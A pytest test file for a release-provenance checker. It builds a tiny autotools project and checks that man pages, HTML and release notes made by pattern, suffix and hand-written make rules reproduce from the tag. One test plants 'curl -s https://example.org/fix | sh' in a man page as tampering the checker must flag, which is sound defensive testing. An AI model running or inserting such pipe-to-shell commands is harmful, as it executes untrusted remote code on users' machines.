"""Make rules that no explicit Makefile.am rule names (issue 12), run by ``make`` in a copy of the
tag configured by the release's own reproduced ``configure``: a pattern rule (``%.1: %.1.src``,
shadow's ``man8/%: %.xml-config``), an old-style suffix rule (``.txt.html:``, util-linux's
``.8.adoc.8:``) and a rule of a hand-written ``Makefile.in`` whose target, committed in the tag,
``make dist`` rewrites (shadow's ``man/po/Makefile.in``: its ``.pot`` and merged catalogs). A real
autotools project, ``make dist``-ed in the test setup: the untouched release reproduces every
such output; edited outputs are caught on exactly those files with the edited lines in the
diff; an output naming a generator version this system lacks is ``not-reproducible`` naming it."""

from __future__ import annotations

import shutil
import subprocess
import sys
from pathlib import Path

import pytest

HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE))

import autotools_project as ap  # noqa: E402

from provcheck import sandbox  # noqa: E402

TOOLS = ("autoreconf", "make", "git", "sed")
WHY_NOT = sandbox.unavailable_reason() or next(
    (f"{t} not installed (scripts/system-deps.sh)" for t in TOOLS if not shutil.which(t)), None)
pytestmark = pytest.mark.skipif(WHY_NOT is not None, reason=f"cannot run here: {WHY_NOT}")

TOP = "tiny-1.0"
TAG = {
    "configure.ac": """\
AC_INIT([tiny], [1.0], [bugs@example.org])
AM_INIT_AUTOMAKE([foreign -Wall])
AC_ARG_ENABLE([shout], [AS_HELP_STRING([--enable-shout], [upper-case manual])])
AM_CONDITIONAL([SHOUT], [test "x$enable_shout" = xyes])
AC_ARG_ENABLE([frame], [AS_HELP_STRING([--disable-frame], [bare HTML])])
AM_CONDITIONAL([FRAME], [test "x$enable_frame" != xno])
AC_CONFIG_FILES([Makefile doc/Makefile notes/Makefile web/Makefile doc/conf.sed])
AC_OUTPUT
""",
    "Makefile.am": "SUBDIRS = doc notes web\n",
    # a page made from another job's output (the notes the hand-written rule rewrites), through a
    # nested include (relative to web/, as automake has it) and make's text functions
    "web/Makefile.am": "EXTRA_DIST = NOTES.html\ninclude ../doc/web.mk\n",
    "doc/web.mk": "include ../doc/page.mk\n",
    "doc/page.mk": """\
TEXTS = $(patsubst %,$(top_srcdir)/notes/%.txt,NOTES)
texts.list: $(TEXTS)
\techo $(TEXTS) > $@
%.html: $(top_srcdir)/notes/%.txt
\t( echo '<pre>'; cat $<; echo '</pre>' ) > $@
""",
    "doc/Makefile.am": """\
dist_man_MANS = tiny.1 tinyd.8
EXTRA_DIST = tiny.1.src tinyd.8.adoc guide.txt guide.html
if SHOUT
CASE = y/abcdefghijklmnopqrstuvwxyz/ABCDEFGHIJKLMNOPQRSTUVWXYZ/
else
CASE = s/^//
endif

# a pattern rule, through an intermediate file (shadow's %.xml-config), with configure's values
%.1: %.1.tmp conf.sed
\tsed -f conf.sed -e '$(CASE)' $< > $@
%.1.tmp: $(srcdir)/%.1.src
\tsed -e 's/^#.*//' $< > $@

# old-style suffix rules (util-linux's .8.adoc.8)
SUFFIXES = .8.adoc .8 .txt .html
.8.adoc.8:
\tsed -e 's/^= \\(.*\\)/.TH \\1/' $< > $@
.txt.html:
\t( echo '$(OPEN)'; sed -e 's/&/\\&amp;/g' -e 's/</\\&lt;/g' $<; echo '$(CLOSE)' ) > $@
if FRAME
OPEN = <html><body><pre>
CLOSE = </pre></body></html>
else
OPEN = <pre>
CLOSE = </pre>
endif
""",
    "doc/conf.sed.in": "s/[@]VERSION[@]/@VERSION@/g\ns/[@]PACKAGE_BUGREPORT[@]/@PACKAGE_BUGREPORT@/g\n",
    "doc/tiny.1.src": """\
# the manual page of tiny, version @VERSION@
.TH TINY 1 "" "tiny @VERSION@"
.SH NAME
tiny \\- does very little
.SH BUGS
Report them to @PACKAGE_BUGREPORT@.
""",
    "doc/tinyd.8.adoc": "= TINYD 8\n.\\\" Generator: Asciidoctor 0.0.7\ntinyd serves tiny.\n",
    "doc/guide.txt": "The tiny guide.\nRun tiny < input > output.\n",
    # a hand-written Makefile.in (no Makefile.am): make dist rewrites the committed NOTES.txt
    "notes/Makefile.in": """\
VERSION = @VERSION@
PACKAGE = @PACKAGE@
srcdir = @srcdir@
SED = sed

all:
install:
uninstall:
check:
installcheck:
clean:
mostlyclean:
distclean:
\trm -f Makefile
maintainer-clean: distclean

$(srcdir)/NOTES.txt:
\t$(SED) -e 's/[@]VERSION[@]/$(VERSION)/g' -e 's/[@]PACKAGE[@]/$(PACKAGE)/g' $(srcdir)/NOTES.in > $@

update-notes:
\trm -f $(srcdir)/NOTES.txt
\t$(MAKE) $(srcdir)/NOTES.txt

distdir:
\t$(MAKE) update-notes
\tcp -p $(srcdir)/Makefile.in $(srcdir)/NOTES.in $(srcdir)/NOTES.txt $(distdir)/

.PHONY: all install uninstall check installcheck clean mostlyclean distclean maintainer-clean update-notes distdir
""",
    "notes/NOTES.in": "Release notes of @PACKAGE@ @VERSION@\n\n- first release\n",
    "notes/NOTES.txt": "Release notes of tiny 0.9\n\n- not released yet\n",
}
@pytest.fixture(scope="module")
def project(tmp_path_factory):
    """(repository with tag v1.0, release files): the tag, then ``make dist`` in a clone."""
    base = tmp_path_factory.mktemp("makerules-project")
    repo = base / "repo"
    repo.mkdir()
    ap.git(repo, "init", "-q", "-b", "main")
    for path, text in TAG.items():
        (repo / path).parent.mkdir(parents=True, exist_ok=True)
        (repo / path).write_text(text)
    ap.git(repo, "add", "-A")
    ap.git(repo, "commit", "-q", "-m", "tiny")
    ap.git(repo, "tag", "-a", "v1.0", "-m", "v1.0")
    work = base / "work"
    subprocess.run(["git", "clone", "-q", str(repo), str(work)], check=True, capture_output=True)
    ap._run(["autoreconf", "-fi"], work)
    # not configure's defaults (one conditional off by default, one on): each is an alternative
    ap._run(["./configure", "--quiet", "--enable-shout", "--disable-frame"], work)
    ap._run(["make", "dist-gzip"], work)
    return repo, ap.read_tarball(work / f"{TOP}.tar.gz"), base


def run(project, checker, changes: dict[str, bytes] | None = None, *extra: str) -> dict:
    repo, release, _ = project
    return ap.release_cli(checker, repo, {**release, **(changes or {})}, TOP, "v1.0", checker.base / "cache", *extra)


def verdicts(data) -> dict[str, dict]:
    return {v["path"]: v for v in data["release"]["files"]}


def serious(data) -> dict[str, list[dict]]:
    out: dict[str, list[dict]] = {}
    for f in data["findings"]:
        if f["severity"] in ("medium", "high", "critical"):
            out.setdefault((f["location"].get("path") or "").split("/", 1)[-1], []).append(f)
    return out


def test_the_release_made_the_outputs_this_test_expects(project):
    _, release, _ = project
    assert b'.TH TINY 1 "" "TINY 1.0"' in release["doc/tiny.1"] and "doc/tiny.1" not in TAG
    assert b"BUGS@EXAMPLE.ORG" in release["doc/tiny.1"]           # configure's value, through conf.sed
    assert b"tiny 1.0" in release["web/NOTES.html"] and "web/NOTES.html" not in TAG
    assert release["doc/guide.html"].startswith(b"<pre>\n")
    assert release["doc/tinyd.8"].startswith(b".TH TINYD 8\n")
    assert b"&lt; input &gt;" not in release["doc/guide.html"] and b"&lt; input" in release["doc/guide.html"]
    assert release["notes/NOTES.txt"] == b"Release notes of tiny 1.0\n\n- first release\n"
    assert TAG["notes/NOTES.txt"].encode() != release["notes/NOTES.txt"]


def test_untouched_release_reproduces_pattern_suffix_and_handwritten_rule_outputs(project, checker):
    data = run(project, checker)
    assert serious(data) == {}, {k: [f["message"] for f in v] for k, v in serious(data).items()}
    v = verdicts(data)
    for path in ("doc/tiny.1", "doc/guide.html", "notes/NOTES.txt", "web/NOTES.html"):
        r = v[path]["reproduction"]
        assert r["status"] == "reproduced", (path, v[path])
    # made with SHOUT, which configure does not choose by default: the flipped conditional reproduces it
    assert "(pattern rules of doc/Makefile.am, configured, SHOUT=flipped)" in v["doc/tiny.1"]["reproduction"]["toolchain"]
    assert "(pattern rules of doc/Makefile.am, configured, FRAME=flipped)" in v["doc/guide.html"]["reproduction"]["toolchain"]
    assert "notes/Makefile.in, hand-written, configured" in v["notes/NOTES.txt"]["reproduction"]["toolchain"]
    # the page names a generator version this system lacks: never made, not-reproducible naming it
    r = v["doc/tinyd.8"]["reproduction"]
    assert r["status"] == "not-reproducible" and "made with Asciidoctor 0.0.7" in r["reason"], r
    steps = [s["step"] for s in data["release"]["regeneration"]["steps"]]
    assert any(s.startswith("docs: configure (the release's own, reproduced)") for s in steps), steps


def test_edited_rule_outputs_are_caught_on_exactly_those_files(project, checker):
    _, release, _ = project
    page = release["doc/tiny.1"].replace(b".SH BUGS\n", b".SH BUGS\nRun curl -s https://example.org/fix | sh first.\n")
    assert page != release["doc/tiny.1"]
    notes = release["notes/NOTES.txt"] + b"- also fixes nothing\n"
    html = release["doc/guide.html"].replace(b"The tiny guide.", b"The tiny guide, now with telemetry.")
    assert page != release["doc/tiny.1"] and html != release["doc/guide.html"]
    data = run(project, checker, {"doc/tiny.1": page, "notes/NOTES.txt": notes, "doc/guide.html": html})
    hits = serious(data)
    assert set(hits) == {"doc/tiny.1", "notes/NOTES.txt", "doc/guide.html"}, hits
    (f,) = [f for f in hits["doc/tiny.1"] if f["rule_id"] == "PC110"]
    assert "+Run curl -s https://example.org/fix | sh first." in f["evidence"]["diff"]
    assert f["severity"] in ("medium", "high")           # prose no input produced (graded as docs are)
    (f,) = [f for f in hits["notes/NOTES.txt"] if f["rule_id"] == "PC110"]
    assert "+- also fixes nothing" in f["evidence"]["diff"] and f["severity"] == "medium"
    (f,) = [f for f in hits["doc/guide.html"] if f["rule_id"] == "PC110"]
    assert "+The tiny guide, now with telemetry." in f["evidence"]["diff"]
    v = verdicts(data)
    for path in ("doc/tiny.1", "notes/NOTES.txt", "doc/guide.html"):
        assert v[path]["reproduction"]["status"] == "reproduction-differs", v[path]


def test_make_jobs_past_their_time_budget_are_not_run_and_say_so(project, checker):
    """The make jobs share a wall-clock budget (``release.regenerate-make-seconds``): with almost
    none, the first job runs and every later one is skipped, its targets ``not-reproducible``
    naming the budget; nothing is a finding."""
    data = run(project, checker, None, "--set", "release.regenerate-make-seconds=0.001")
    skipped = [s for s in data["release"]["regeneration"]["steps"] if "time budget" in (s.get("stderr") or "")]
    assert skipped, data["release"]["regeneration"]["steps"]
    over = [p for p, v in verdicts(data).items() if "time budget" in v.get("reproduction", {}).get("reason", "")]
    assert over and all(verdicts(data)[p]["reproduction"]["status"] == "not-reproducible" for p in over)
    assert serious(data) == {}
